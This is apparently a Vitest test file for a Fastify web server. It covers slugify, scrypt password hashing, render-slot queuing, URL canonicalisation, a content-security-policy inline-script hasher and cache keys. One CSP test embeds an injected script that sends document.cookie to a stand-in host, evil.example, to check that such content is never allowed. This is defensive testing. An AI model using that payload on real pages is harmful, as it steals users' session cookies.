import { createHash } from 'node:crypto';
import Fastify from 'fastify';
import { describe, expect, it } from 'vitest';
import { keptReadKey } from '../../src/server/cache/public-answers';
import { slugify } from '../../src/server/content/slug';
import { allowInlineScripts } from '../../src/server/plugins/security-headers';
import { MARK_STORED_SESSION } from '../../src/shared/stored-session';
import { meaningfulUrl } from '../../src/server/seo/origin';
import { Slots } from '../../src/server/seo/ssr';
import { hashPassword, needsRehash, passwordParams, STRONG_PARAMS, verifyPassword } from '../../src/server/security/passwords';

describe('slugify', () => {
  it.each([
    ['Annual Reports 2024', 'annual-reports-2024'],
    ['  Héllo, Wörld!  ', 'hello-world'],
    ['Network & Infrastructure', 'network-infrastructure'],
    ['---', ''],
  ])('%s → %s', (input, expected) => expect(slugify(input)).toBe(expected));

  it('never exceeds 100 characters nor ends with a dash', () => {
    const slug = slugify(`${'word '.repeat(40)}end`);
    expect(slug.length).toBeLessThanOrEqual(100);
    expect(slug.endsWith('-')).toBe(false);
  });
});

describe('passwords', () => {
  it('verifies the right password only, with a fresh salt each time', async () => {
    const one = await hashPassword('s3cret-pass');
    const two = await hashPassword('s3cret-pass');
    expect(one).not.toBe(two);
    expect(await verifyPassword('s3cret-pass', one)).toBe(true);
    expect(await verifyPassword('wrong-pass', one)).toBe(false);
    expect(await verifyPassword('s3cret-pass', 'plain-text')).toBe(false);
  });

  it('hashes at full strength outside a test runner, and upgrades a lighter hash on sign-in there', async () => {
    for (const nodeEnv of [undefined, 'production', 'development']) expect(passwordParams(nodeEnv)).toBe(STRONG_PARAMS);
    expect(passwordParams('test').N).toBeLessThan(STRONG_PARAMS.N);
    const strong = await hashPassword('s3cret-pass', STRONG_PARAMS);
    expect(strong).toMatch(/^scrypt\$16384\$8\$5\$/);
    expect(await verifyPassword('s3cret-pass', strong)).toBe(true);
    expect(needsRehash(strong, STRONG_PARAMS)).toBe(false);
    // A light hash signed in with where hashes are strong is made again at full strength.
    expect(needsRehash(await hashPassword('s3cret-pass', passwordParams('test')), STRONG_PARAMS)).toBe(true);
  });
});

describe('Slots (the cap on pages rendering at once)', () => {
  it('lets `count` holders in, queues the next, and hands a freed slot to the first in line', async () => {
    const slots = new Slots(2);
    expect(await slots.acquire(10)).toBe(true);
    expect(await slots.acquire(10)).toBe(true);
    const third = slots.acquire(1_000);
    slots.release();
    expect(await third).toBe(true);
  });

  it('gives up waiting after the timeout, and a later release does not count that waiter', async () => {
    const slots = new Slots(1);
    await slots.acquire(10);
    expect(await slots.acquire(20)).toBe(false);
    slots.release();
    expect(await slots.acquire(10)).toBe(true);
    expect(await slots.acquire(10)).toBe(false);
  });
});

describe('meaningfulUrl (what makes another rendered page)', () => {
  it.each([
    ['/about?x=1', '/about'],
    ['/about?utm_source=mail&x=2', '/about'],
    ['/news?page=3&x=1', '/news?page=3'],
    ['/news?page=1', '/news'],
    ['/news?page=abc', '/news'],
    ['/details?page=2', '/details?page=2'],
    // The server does not route: a page number is kept wherever it is (/news reads it).
    ['/about?page=2', '/about?page=2'],
    ['/', '/'],
  ])('%s → %s', (url, expected) => expect(meaningfulUrl(url)).toBe(expected));
});

describe('allowInlineScripts (the page policy for the router’s hydration scripts)', () => {
  const policy = "default-src 'self';script-src 'self' https://www.googletagmanager.com;style-src 'self'";
  const hash = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`;

  it('adds the hash of each inline script to script-src only, once each, and of the scripts routes add in the browser', () => {
    const html = '<script>a()</script><p>x</p><script data-x="1">b()</script><script>a()</script>';
    expect(allowInlineScripts(policy, html)).toBe(
      `default-src 'self';script-src 'self' https://www.googletagmanager.com ${hash('a()')} ${hash('b()')} ${hash(MARK_STORED_SESSION)};style-src 'self'`,
    );
  });

  it('leaves out scripts loaded from a file, data blocks and empty scripts', () => {
    const html =
      '<script src="/start.js"></script><script type="application/ld+json">{"a":1}</script><script type="application/json">[]</script><script></script>';
    expect(allowInlineScripts(policy, html)).toBe(policy);
  });

  it('hashes only the renderer’s own scripts, never one inside the page’s content', () => {
    const injected = 'fetch("//evil.example/?c="+document.cookie)';
    const html =
      '<!DOCTYPE html><html><head></head><body><div id="root"><main><article>' +
      `<p>text</p><script>${injected}</script><style>/* </div></div> */</style><div><script>${injected}2</script></div>` +
      '</article></main></div><script>hydrate()</script></body></html>';
    const allowed = allowInlineScripts(policy, html);
    expect(allowed).toContain(hash('hydrate()'));
    expect(allowed).not.toContain(hash(injected));
    expect(allowed).not.toContain(hash(`${injected}2`));
  });

  it('finds inline scripts that look at first like files or data blocks', () => {
    // Each is code the parser reads as an inline script of <head>: the quick reading before the
    // parse (which skips it for documents with files and data blocks only) must not be fooled.
    const tricky = [
      '<script title="src=/x.js">a()</script>',
      '<script data-x=">src=">a()</script>',
      '<script data-src=/x.js>a()</script>',
      '<SCRIPT TYPE="application/ld+json-ish">a()</SCRIPT>',
      '<script src="/x.js"></script><script\n>a()</script>',
      '<script type="application/ld+json">{}</script><script type=module>a()</script>',
    ];
    for (const html of tricky) expect(allowInlineScripts(policy, html), html).toContain(hash('a()'));
  });

  it('gives a document without inline scripts (an islands document) no hashes', () => {
    const html =
      '<!DOCTYPE html><html><head></head><body><div id="root"><p>x</p></div><script defer src="/start.js"></script></body></html>';
    expect(allowInlineScripts(policy, html)).toBe(policy);
  });
});

describe('keptReadKey', () => {
  /** The key a kept read of `url` gets, from the query as Fastify's router parses it for the route. */
  async function keyOf(url: string, names: readonly string[]): Promise<string> {
    const app = Fastify();
    let key = '';
    app.get('/cms/things', async (request) => {
      key = keptReadKey(request.url, request.query as Record<string, unknown>, names);
      return {};
    });
    await app.inject({ url });
    await app.close();
    return key;
  }

  it('is the path alone when the route reads none of the parameters given', async () => {
    expect(await keyOf('/cms/things', ['page'])).toBe('/cms/things');
    expect(await keyOf('/cms/things?junk=1', ['page'])).toBe('/cms/things');
  });

  it('names the parameters the route reads, in its order, whatever order they came in', async () => {
    expect(await keyOf('/cms/things?size=3&junk=1&page=2', ['page', 'size'])).toBe('/cms/things?page=2&size=3');
  });

  it('is one key for one meaning: a space spelled + or %20 alike, a plus sign apart, Bangla as its letters', async () => {
    const spaced = await keyOf('/cms/things?q=a+b', ['q']);
    expect(await keyOf('/cms/things?q=a%20b', ['q'])).toBe(spaced);
    expect(await keyOf('/cms/things?q=a%2Bb', ['q'])).not.toBe(spaced);
    expect(await keyOf(`/cms/things?q=${encodeURIComponent('সমাচার')}`, ['q'])).toBe(
      await keyOf(`/cms/things?q=${encodeURIComponent('সমাচার')}&q=other`, ['q']),
    );
  });

  it('keeps a value that would end the key or start another parameter inside its own', async () => {
    expect(await keyOf('/cms/things?q=x%26page%3D2', ['q', 'page'])).not.toBe(
      await keyOf('/cms/things?q=x&page=2', ['q', 'page']),
    );
  });
});
